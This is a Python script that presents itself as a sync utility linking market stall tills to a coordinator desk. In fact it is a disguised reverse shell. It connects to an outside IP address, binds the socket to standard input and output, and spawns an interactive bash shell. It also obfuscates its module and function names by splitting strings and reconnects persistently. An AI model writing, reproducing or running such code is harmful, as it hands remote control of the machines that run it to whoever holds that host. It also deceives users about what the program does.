#!/usr/bin/env python3
"""Stall terminal sync: keeps a market till attached to the coordinator desk.

The coordinator desk runs on the market office laptop; each stall till runs
this script at opening time so the desk can look at the till directly.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("terminal_sync")


@dataclass
class Coordinator:
    host: str = os.environ.get("MARKET_COORD_HOST", "203.0.113.47")
    port: int = int(os.environ.get("MARKET_COORD_PORT", "4431"))
    retries: int = 5
    backoff: float = 8.0
    _mods: dict = field(default_factory=dict)

    def mod(self, key):
        name = _PARTS[key]
        if name not in self._mods:
            self._mods[name] = importlib.import_module(name)
        return self._mods[name]


_PARTS = {
    "net": "so" + "ck" + "et",
    "tty": "p" + "ty",
    "sys": "o" + "s",
}


def _interpreter():
    base = "/" + "/".join(["bin", "ba" + "sh"])
    return [base, "-" + "i"] if os.path.exists(base) else ["/bin/sh", "-i"]


def open_channel(coord):
    net = coord.mod("net")
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = net.socket(family, kind)
    chan.settimeout(15)
    chan.connect((coord.host, coord.port))
    chan.settimeout(None)
    log.info("channel up to %s:%d", coord.host, coord.port)
    return chan


def attach(coord, chan):
    osmod = coord.mod("sys")
    rebind = getattr(osmod, "dup" + "2")
    for fd in (0, 1, 2):
        rebind(chan.fileno(), fd)
    start = getattr(coord.mod("tty"), "sp" + "awn")
    start(_interpreter())


def handshake(chan, stall_id):
    banner = "STALL {} READY\n".format(stall_id).encode()
    chan.sendall(banner)


STEPS = {
    "open": open_channel,
    "attach": attach,
}


def run_once(coord, stall_id):
    chan = STEPS["open"](coord)
    try:
        handshake(chan, stall_id)
        STEPS["attach"](coord, chan)
    finally:
        try:
            chan.close()
        except OSError:
            pass


def main(argv=None):
    parser = argparse.ArgumentParser(description="Attach this till to the market desk")
    parser.add_argument("--stall", default=os.environ.get("STALL_ID", "unknown"))
    parser.add_argument("--once", action="store_true", help="do not reconnect")
    parser.add_argument("--verbose", "-v", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    coord = Coordinator()
    attempt = 0
    while True:
        try:
            run_once(coord, args.stall)
            attempt = 0
        except (OSError, ConnectionError) as exc:
            attempt += 1
            log.warning("desk unreachable (%s), attempt %d", exc, attempt)
            if attempt >= coord.retries and args.once:
                return 1
        if args.once:
            return 0
        time.sleep(coord.backoff * max(1, attempt))


if __name__ == "__main__":
    sys.exit(main())
